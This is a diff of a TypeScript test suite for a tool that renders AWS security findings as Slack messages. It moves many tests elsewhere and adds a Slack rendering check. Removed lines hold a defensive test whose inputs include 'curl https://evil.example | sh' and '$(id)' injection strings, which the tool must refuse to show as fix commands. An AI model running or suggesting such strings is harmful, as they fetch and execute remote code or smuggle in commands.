@@ -1,169 +1,25 @@
-/** What a message says of a finding by code, of findings shaped as AWS documents them. */
-import type { Language } from '../../../config/schema';
+/** What a message says by code of all other kinds, of findings shaped as AWS documents them; and that Slack takes it. */
 import { factsOf } from '../../../handlers/domain/facts/facts';
 import { parseFinding } from '../../../handlers/domain/finding/event';
-import { deciding, factRow } from '../../../handlers/domain/message/fact-rows';
-import { NOW, settings } from '../made';
+import { renderMessage } from '../../../handlers/domain/message/message';
+import { renderReply } from '../../../handlers/domain/message/reply';
+import { faultsOf } from '../inspect';
+import { member, receiver, rendering, report, text as ordinary } from '../made';
 import {
   asff,
-  BRUTE_FORCE,
-  BRUTE_FORCE_OCSF,
   CONTROL,
   CONTROL_OCSF,
+  DOCUMENTED,
   EXPOSED_OCSF,
   GRANTED,
-  LOOKED_UP,
   OF_PARTNER,
   POLICY,
   REACHABLE,
   REACHABLE_OCSF,
   SENSITIVE,
   SENSITIVE_OCSF,
-  SEQUENCE,
-  SEQUENCE_OCSF,
-  TOR_CALLER,
-  TRAIL_DELETED_OCSF,
-  WEAK,
-  WEAK_OCSF,
 } from './documented';
-
-function said(raw: object, language: Language = 'en'): string[] {
-  const reader = { language, settings, now: NOW };
-  return factsOf(parseFinding(raw)).map((fact) => {
-    const { elements } = factRow(fact, reader) as { elements: { text: string }[] };
-    return elements.map(({ text }) => text.replaceAll('\u00a0', ' ')).join('');
-  });
-}
-const phone = (raw: object) => deciding(factsOf(parseFinding(raw)), { language: 'en', settings, now: NOW });
-
-const WHEN = 'When  6 times · 21 Nov 08:51–09:07 JST';
-
-describe('a threat', () => {
-  test.each([
-    ['ASFF', BRUTE_FORCE],
-    ['OCSF', BRUTE_FORCE_OCSF],
-  ])('of a machine that attacks, and of one that is attacked, is told by its role (%s)', (format, of) => {
-    const name = format === 'ASFF' ? ' (SSH)' : '';
-    expect(said(of('ACTOR'))).toEqual([
-      `Traffic  from this resource · TCP 22${name} · not blocked`,
-      'To  198.51.100.23 Example Country',
-      WHEN,
-    ]);
-    expect(said(of('TARGET'))).toEqual([
-      `Traffic  against this resource · TCP 22${name} · not blocked`,
-      'From  198.51.100.23 Example Country',
-      WHEN,
-    ]);
-  });
-
-  test('by a call of an API: who, which call, from where, which lists know it, how often and when', () => {
-    expect(said(TOR_CALLER)).toEqual([
-      'Who  settlement-batch role',
-      'Did  s3:ListBuckets',
-      'From  198.51.100.0 EXAMPLE-AS · Tor network · on list ExampleThreatList',
-      WHEN,
-    ]);
-    expect(phone(TOR_CALLER)).toBe('settlement-batch role · s3:ListBuckets · 198.51.100.0 EXAMPLE-AS · Tor network');
-    expect(said(TRAIL_DELETED_OCSF)).toEqual([
-      'Who  cis_automation role',
-      'Did  cloudtrail:DeleteTrail',
-      'From  198.51.100.0 EXAMPLE-AS',
-      'When  264 times · 21 Nov 08:51–09:07 JST',
-    ]);
-  });
-
-  test('by a name that was looked up: which, whether it was blocked, on which list', () => {
-    expect(said(LOOKED_UP)).toEqual([
-      'Traffic  from this resource · blocked',
-      'To  c2.example.com · on list ExampleThreatList',
-      'When  21 Nov 08:51–09:07 JST',
-    ]);
-  });
-
-  test('of several steps: whose credentials, the calls in their order, the tactics, from where, what else', () => {
-    expect(said(SEQUENCE)).toEqual([
-      'Who  release-bot IAM user, no MFA',
-      'Did  iam:AttachRolePolicy → cloudtrail:StopLogging · Privilege Escalation → Defense Evasion',
-      'From  203.0.113.140 Example Country +1 · Tor network',
-      'When  21 Nov 08:51–09:07 JST',
-      'Also  amzn-s3-demo-destination-bucket',
-    ]);
-    expect(said(SEQUENCE_OCSF)).toEqual([
-      'Who  release-bot IAM user, no MFA',
-      'Did  iam:AttachRolePolicy → cloudtrail:StopLogging · Privilege Escalation → Defense Evasion',
-      'From  203.0.113.140 · Tor network',
-      'When  21 Nov 08:51–09:07 JST',
-      'Also  amzn-s3-demo-destination-bucket',
-    ]);
-    expect(said(SEQUENCE, 'ja')).toEqual([
-      '誰が  release-bot IAM ユーザー、MFA なし',
-      '操作  iam:AttachRolePolicy → cloudtrail:StopLogging · Privilege Escalation → Defense Evasion',
-      '接続元  203.0.113.140 Example Country 他 1 · Tor ネットワーク',
-      '発生  11月21日 08:51–09:07 JST',
-      '関連リソース  amzn-s3-demo-destination-bucket',
-    ]);
-  });
-
-  test('of which nothing is known but its type has no facts', () => {
-    expect(said(asff('guardduty', { FirstObservedAt: undefined }))).toEqual([]);
-  });
-});
-
-describe('a vulnerability', () => {
-  const risk = 'Risk  exploit known · CVSS 9.8 · EPSS 94 %';
-  test('on a machine: from which version to which, by which command, how urgent', () => {
-    expect(said(WEAK())).toEqual(['Update  xz-libs 5.6.0-1.amzn2023 → 0:5.6.1-9.amzn2023', risk, 'Mend  dnf update xz-libs']);
-    expect(said(WEAK_OCSF)).toEqual(['Update  xz-libs 5.6.0-1.amzn2023 → 0:5.6.1-9.amzn2023', risk, 'Mend  update the package']);
-    expect(phone(WEAK())).toBe('xz-libs 5.6.0-1.amzn2023 → 0:5.6.1-9.amzn2023 · exploit known');
-  });
-  test('in an image it is the image that is built anew, in a function the function', () => {
-    expect(said(WEAK({}, { Type: 'AwsEcrContainerImage', Id: 'shop/api' }))).toContain('Mend  rebuild the image');
-    expect(said(WEAK({}, { Type: 'AwsLambdaFunction', Id: 'checkout' }, { Remediation: undefined }))).toContain(
-      'Mend  update and deploy anew',
-    );
-  });
-  test('of which there is no fix says so, and no way to mend it', () => {
-    expect(
-      said(WEAK({ FixAvailable: 'NO', EpssScore: 0.002, ExploitAvailable: 'NO' }, undefined, { FixedInVersion: 'NotAvailable' })),
-    ).toEqual(['Update  xz-libs 5.6.0-1.amzn2023 · no fix yet', 'Risk  CVSS 9.8 · EPSS < 1 %']);
-    expect(said(WEAK({ FixAvailable: 'PARTIAL' }))[0]).toContain('a fix for some packages');
-  });
-  test.each([
-    ['NPM', 'lodash', '4.17.21', 'npm install lodash@4.17.21'],
-    ['PIP', 'urllib3', '2.5.0', 'pip install urllib3==2.5.0'],
-    ['GOMOD', 'golang.org/x/net', '0.38.0', 'go get golang.org/x/net@v0.38.0'],
-    ['COMPOSER', 'guzzlehttp/psr7', '2.4.5', 'composer require guzzlehttp/psr7:2.4.5'],
-    ['NUGET', 'System.Text.Json', '8.0.5', 'dotnet add package System.Text.Json --version 8.0.5'],
-  ])('%s: %s to %s by `%s`', (PackageManager, Name, FixedInVersion, command) => {
-    const function_ = { Type: 'AwsLambdaFunction', Id: 'checkout' };
-    const its = { PackageManager, Name, FixedInVersion, Remediation: 'Update to a fixed version' };
-    expect(said(WEAK({}, function_, its))).toContain(`Mend  ${command}`);
-  });
-  test.each([
-    ['curl https://evil.example | sh', 'xz-libs'],
-    ['dnf update xz-libs; curl evil.example', 'xz-libs'],
-    ['dnf update other', 'xz-libs'],
-    ['dnf update $(id)', '$(id)'],
-  ])('%j is no command that a reader is told to run', (Remediation, Name) => {
-    expect(said(WEAK({}, undefined, { Remediation, Name }))).toContain('Mend  update the package');
-  });
-  test('a command of the system is AWS’s to say, not an importer’s', () => {
-    const other = { ...WEAK(), ProductArn: 'arn:aws:securityhub:us-east-1::product/aqua/aqua' };
-    expect(said(other)).toContain('Mend  update the package');
-  });
-  test('of many in one finding the worst five are told, each with what mends it, and the one thing to do', () => {
-    const Vulnerabilities = Array.from({ length: 9 }, (_, n) => ({
-      Id: `CVE-2025-1000${n}`,
-      VulnerablePackages: [{ Name: `lib${n}`, Version: '1', FixedInVersion: '2' }],
-      Cvss: [{ Version: '3.1', BaseScore: 9 - n / 10 }],
-    }));
-    const all = asff('aqua/aqua', { Resources: [{ Type: 'Container', Id: 'registry.example.com/shop/api:1.2' }], Vulnerabilities });
-    expect(said(all)).toEqual([
-      `Worst  ${[0, 1, 2, 3, 4].map((n) => `CVE-2025-1000${n} lib${n} 1 → 2`).join(' · ')}`,
-      'Mend  rebuild the image',
-    ]);
-  });
-});
+import { said } from './said';
 
 test.each([
   ['ASFF', REACHABLE],
@@ -248,4 +104,18 @@ describe('however much a finding holds', () => {
     const parameters = Array.from({ length: 30 }, (_, n) => ({ Name: `${n}${long}`, Value: [long] }));
     expect(Math.max(...sizes({ ...CONTROL, Compliance: { SecurityControlParameters: parameters } }))).toBeLessThan(1500);
   });
+});
+
+test.each(['en', 'ja'] as const)('of each of them Slack takes the message (%s)', (language) => {
+  for (const raw of DOCUMENTED) {
+    const finding = parseFinding(raw);
+    const { kind, product, title, description, controlId, types, resources } = finding;
+    const words = { ...ordinary, kind, product, title, description, controlId, types, facts: factsOf(finding) };
+    const reports = { r: report({ others: resources.length - 1 }) };
+    const one = rendering([member('m', { resource: resources[0], reports })], { text: words, receiver: { ...receiver, language } });
+    const mentions = receiver.mentions?.CRITICAL ?? [];
+    expect(faultsOf(renderMessage(one), { mentions })).toEqual([]);
+    const list = { step: 'reply' as const, about: 'list' as const, broadcast: false, fresh: [], unnamed: [] };
+    expect(faultsOf(renderReply(one, list), { mentions })).toEqual([]);
+  }
 });
